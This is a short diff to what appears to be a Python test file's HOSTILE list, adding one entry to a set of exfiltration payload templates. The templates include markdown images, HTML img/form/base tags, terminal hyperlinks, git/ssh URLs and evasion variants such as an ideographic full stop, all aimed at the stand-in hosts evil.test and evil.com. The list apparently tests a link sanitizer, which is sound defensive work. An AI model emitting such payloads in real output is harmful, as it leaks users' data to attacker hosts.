@@ -84,7 +84,7 @@ HOSTILE = [
     '<!-- <img alt=" --> <img src="https://evil.test/ a {}">', '<div>\n```\n<img src="https://evil.test/ a {}">\n```\n</div>',
     '```\n<img src="https://evil.test/ a {}">', "https://ok.test/?u=https://evil.test/{}", "https://ok.test/?u=https%3A%2F%2Fevil.test%2F{}",
     "https://evil.test/?a=\u00a0{}", 'https://evil.test/"{}', "git@evil.test:{}/x.git", "ssh://git@evil.test/{}", "{}@evil.test",
-    "![x]({}://evil.test/p)", "<form action='https://evil.test/'><input value='{}'>", "<base href='https://evil.test/'><img src='/{}'>", "\x1b]8;;https://evil.test/{}\x1b\\x", "https://ok.test:8443/{}", "http://ok.test:80/{}",
+    "![x]({}://evil.test/p)", "\u3002{}evil.com", "<form action='https://evil.test/'><input value='{}'>", "<base href='https://evil.test/'><img src='/{}'>", "\x1b]8;;https://evil.test/{}\x1b\\x", "https://ok.test:8443/{}", "http://ok.test:80/{}",
     "<img src=" + '"https://evil.test/' + "y " * 2000 + '{}">', "https://evil.test/" + "y" * 5000 + "{}", "$\\href{{https://evil.test/ {}}}{{x}}$",
 ]  # fmt: skip
 
